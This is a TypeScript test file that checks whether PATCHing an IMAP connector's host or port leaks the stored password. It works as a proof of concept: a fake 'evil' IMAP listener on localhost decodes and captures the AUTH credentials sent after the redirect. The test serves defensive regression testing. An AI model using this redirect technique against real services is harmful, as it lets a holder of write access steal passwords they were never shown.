// Attack: PATCH an IMAP connector's host/port while leaving the password out. The stored password
// is kept (by design) — and then sent in LOGIN to the new host. Whoever holds connectors:write
// (e.g. the panel token) can thus learn a password it never saw.
import { expect, setDefaultTimeout, test } from "bun:test";
import { createServer } from "node:net";
import { bearer, postJson, testApp } from "../helpers";

setDefaultTimeout(30_000);

function listener(greet: boolean) {
  const seen: string[] = [];
  const server = createServer((s) => {
    if (greet) s.write("* OK fake\r\n");
    s.on("data", (b) => {
      const text = b.toString();
      seen.push(text);
      for (const line of text.split("\r\n")) {
        const tag = line.split(" ")[0];
        if (!tag) continue;
        if (/CAPABILITY/i.test(line)) s.write(`* CAPABILITY IMAP4rev1 AUTH=PLAIN\r\n${tag} OK done\r\n`);
        else if (/AUTHENTICATE/i.test(line)) s.write("+ \r\n");
        else if (/^[A-Za-z0-9+/=]+$/.test(line)) { seen.push(Buffer.from(line, "base64").toString()); s.write("* BYE\r\n"); }
        else s.write(`${tag} NO nope\r\n`);
      }
    });
  });
  return new Promise<{ port: number; seen: string[]; close: () => void }>((res) =>
    server.listen(0, "127.0.0.1", () => res({ port: (server.address() as any).port, seen, close: () => server.close() })),
  );
}

test("PATCH host/port keeps the stored IMAP password and sends it to the new server", async () => {
  const real = await listener(true);
  const evil = await listener(true);
  const t = await testApp({ CORPUS_CONNECTOR_ALLOW_HOSTS: "127.0.0.1" });
  const tok = (await t.services.auth.issuer.issue("alice", ["connectors:read", "connectors:write"])).token;
  const imap = { host: "127.0.0.1", port: real.port, secure: false, user: "alice", password: "S3CRET-PW-xyz", mailbox: "INBOX" };
  await t.app.handle(postJson("/v1/connectors", { id: "mail", kind: "imap", config: imap }, bearer(tok)));
  const r = await t.app.handle(
    new Request("http://localhost/v1/connectors/mail", { method: "PATCH", headers: { ...bearer(tok), "content-type": "application/json" }, body: JSON.stringify({ config: { port: evil.port } }) }),
  );
  console.log("PATCH status", r.status, (await r.text()).slice(0, 300));
  await Bun.sleep(300);
  console.log("evil saw:", JSON.stringify(evil.seen));
  real.close();
  evil.close();
  // The secure behaviour: a changed host/port needs the password given again.
  expect(evil.seen.join("")).not.toContain("S3CRET-PW-xyz");
});
